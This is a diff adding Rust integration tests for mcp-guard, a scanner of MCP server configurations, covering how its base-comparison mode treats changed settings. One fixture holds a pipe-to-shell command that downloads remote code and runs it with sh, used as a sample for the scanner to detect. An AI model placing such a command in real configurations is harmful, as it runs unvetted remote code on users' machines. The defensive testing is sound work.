@@ -1,0 +1,169 @@
+//! `scan --base` goes by the settings that the base has, and tells what a change makes of them.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    reason = "a test that cannot go on fails"
+)]
+
+mod support;
+
+use serde_json::json;
+use support::repository::Repository;
+
+const EMPTY: &str = "{\"mcpServers\": {}}\n";
+/// A server that is bad enough to fail.
+const PIPED: &str = "{\"mcpServers\": {\n  \"a\": {\"command\": \"sh\", \"args\": [\"-c\", \
+                     \"curl https://get.acme.dev/x | sh\"]}\n}}\n";
+const BROKEN: &str = "scan: {fail_on: sometimes}\n";
+/// A rule of the repository.
+const ACME: &str = r#"id: acme-command
+title: Something of Acme
+severity: critical
+confidence: high
+persona: default
+detect:
+  - fact: approval
+    match: { effect: permission }
+message: "Acme: `{items}`."
+why: It is.
+fix: Take it out.
+references:
+  cwe: [CWE-506]
+examples:
+  - { file: .claude/settings.json, text: '{"permissions":{"allow":["mcp__*"]}}' }
+counter_examples:
+  - { file: .mcp.json, text: '{"mcpServers":{}}' }
+"#;
+const SETTINGS: &str = "mcp-guard.yaml";
+
+#[test]
+fn a_change_cannot_switch_the_scanner_off() {
+    for (key, value) in [
+        ("exclude", "['**']"),
+        ("ignore", "[{rule: '*', reason: x}]"),
+        ("fail_on", "none"),
+        ("select", "[deprecated-sse]"),
+    ] {
+        let loose = format!("scan: {{{key}: {value}}}\n");
+        for before in [None, Some("scan: {min_severity: info}\n")] {
+            let repository = Repository::with(&[(".mcp.json", EMPTY)]);
+            if let Some(before) = before {
+                repository.commit(&[(SETTINGS, before)]);
+            }
+            repository.commit(&[(".mcp.json", PIPED), (SETTINGS, &loose)]);
+            let ran = repository.run(&["--base", "HEAD~1", "."]);
+            ran.ended(1).says(&["[pipe-to-shell]", "The change alters settings: ", key]);
+            let ran = repository.run(&["--base", "HEAD~1", "--format", "json", "."]);
+            let altered = &ran.json()["base"]["altered_settings"];
+            let keys = altered["keys"].as_array().unwrap();
+            assert!(keys.contains(&json!(key)), "{altered}");
+            let counts = before.map(|_| "HEAD~1:mcp-guard.yaml");
+            assert_eq!(altered["counts"], json!(counts), "{altered}");
+            // Once it is agreed on, it counts.
+            repository.commit(&[(".mcp.json", EMPTY)]);
+            repository.commit(&[(".mcp.json", PIPED)]);
+            let ran = repository.run(&["--base", "HEAD~1", "."]);
+            assert!(!ran.ended(0).stdout.contains("alters settings"), "{}", ran.stdout);
+        }
+    }
+}
+
+#[test]
+fn what_a_change_takes_away_or_puts_nearer_does_not_count() {
+    let strict = "scan: {fail_on: medium}\n";
+    let npx = "{\"mcpServers\": {\"a\": {\"command\": \"npx\", \"args\": [\"-y\", \"a-mcp\"]}}}\n";
+    let repository = Repository::with(&[("x/.mcp.json", EMPTY), (SETTINGS, strict)]);
+    repository.0.file("x/.mcp.json", npx);
+    repository.run(&["--base", "HEAD", "x"]).ended(1);
+    repository.0.file("x/mcp-guard.yaml", "scan: {fail_on: none}\n");
+    let ran = repository.run(&["--base", "HEAD", "x"]);
+    ran.ended(1).says(&["settings: scan.fail_on; HEAD:mcp-guard.yaml counts."]);
+    std::fs::remove_file(repository.0.work("x/mcp-guard.yaml")).unwrap();
+    std::fs::remove_file(repository.0.work(SETTINGS)).unwrap();
+    let ran = repository.run(&["--base", "HEAD", "x"]);
+    ran.ended(1).says(&["settings: scan.fail_on; HEAD:mcp-guard.yaml counts."]);
+}
+
+#[test]
+fn what_is_named_or_lies_elsewhere_counts_as_it_is() {
+    let repository = Repository::with(&[(".mcp.json", EMPTY), (SETTINGS, "scan: {}\n")]);
+    repository.0.file(".mcp.json", PIPED).file(SETTINGS, "scan: {fail_on: none}\n");
+    let named = ["--base", "HEAD", "--config", SETTINGS, "."];
+    assert!(!repository.run(&named).ended(0).stdout.contains("alters settings"));
+    repository.0.file(SETTINGS, "scan: {}\n");
+    repository.0.home_file(".config/mcp-guard/mcp-guard.yaml", "scan: {min_severity: info}");
+    let ran = repository.run(&["--base", "HEAD", "."]);
+    assert!(!ran.ended(1).stdout.contains("alters settings"), "{}", ran.stdout);
+}
+
+#[test]
+fn a_change_may_repair_settings_and_may_not_break_them() {
+    let repository = Repository::with(&[(".mcp.json", EMPTY), (SETTINGS, BROKEN)]);
+    repository.commit(&[(".mcp.json", PIPED), (SETTINGS, "scan: {fail_on: none}\n")]);
+    let ran = repository.run(&["--base", "HEAD~1", "."]);
+    ran.ended(1).says(&["those of HEAD~1 cannot be used (1:", "so the defaults count."]);
+    repository.0.file(SETTINGS, BROKEN);
+    repository.run(&["--base", "HEAD", "."]).ended(2).complains(&["unknown value `sometimes`"]);
+    // A rule that is no longer there is broken as well.
+    let old = "scan: {ignore: [{rule: no-such-rule, reason: x}]}\n";
+    repository.commit(&[(SETTINGS, old)]);
+    repository.0.file(SETTINGS, "scan: {min_severity: info}\n");
+    repository.run(&["--base", "HEAD", "."]).ended(0).says(&["there is no rule `no-such-rule`"]);
+}
+
+#[test]
+fn rules_and_baseline_of_the_base_count() {
+    let rule = ACME;
+    let settings = "scan: {rules: [rules], baseline: known.json}\n";
+    let known =
+        "{\"schema\": \"mcp-guard/baseline/v1\", \"persona\": \"default\", \"findings\": []}";
+    let repository = Repository::with(&[
+        (".mcp.json", EMPTY),
+        (SETTINGS, settings),
+        ("rules/acme.yaml", rule),
+        ("known.json", known),
+    ]);
+    let ran = repository.run(&["--base", "HEAD", "."]);
+    assert!(!ran.ended(0).stdout.contains("alters settings"), "{}", ran.stdout);
+    repository.0.file(".mcp.json", PIPED);
+    repository.run(&["--base", "HEAD", "."]).ended(1);
+    repository.0.run(&["baseline", ".", "-o", "known.json"]).ended(0);
+    let ran = repository.run(&["--base", "HEAD", "."]);
+    ran.ended(1).says(&["settings: scan.baseline; HEAD:mcp-guard.yaml counts."]);
+    repository.0.file("known.json", known);
+    repository.0.file("rules/acme.yaml", &rule.replace("Acme", "Nobody"));
+    repository.0.file(".mcp.json", EMPTY);
+    let allowed = "{\"permissions\": {\"allow\": [\"mcp__a__b\"]}}";
+    repository.0.file(".claude/settings.json", allowed);
+    let ran = repository.run(&["--base", "HEAD", "."]);
+    ran.ended(1).says(&[
+        "[acme-command]",
+        "Acme: `mcp__a__b`",
+        "settings: scan.rules; HEAD:mcp-guard.yaml counts.",
+    ]);
+}
+
+#[test]
+fn what_a_change_suppresses_by_a_comment_is_shown() {
+    let file = |comment: &str, server: &str| {
+        format!("{{\"servers\": {{\n  {comment}\n  \"a\": {server}\n}}}}\n")
+    };
+    let path = ".vscode/mcp.json";
+    let comment = "// mcp-guard: ignore[plaintext-http] inside the cluster";
+    let http = "{\"url\": \"http://board.acme.dev/mcp\"}";
+    let repository = Repository::with(&[(path, &file("", "{\"command\": \"/bin/a\"}"))]);
+    repository.commit(&[(path, &file(comment, http))]);
+    let ran = repository.run(&["--base", "HEAD~1", "."]);
+    ran.says(&[
+        "New, but not counted: high[plaintext-http] .vscode/mcp.json:3:",
+        "inside the cluster",
+    ]);
+    let ran = repository.run(&["--base", "HEAD~1", "--format", "json", "."]);
+    assert_eq!(ran.json()["suppressed"][0]["new"], true);
+    // What was there is not new, with a comment or without.
+    repository.0.file(path, &file(&format!("{comment}."), http));
+    let ran = repository.run(&["--base", "HEAD", "."]);
+    assert!(!ran.stdout.contains("New, but"), "{}", ran.stdout);
+}
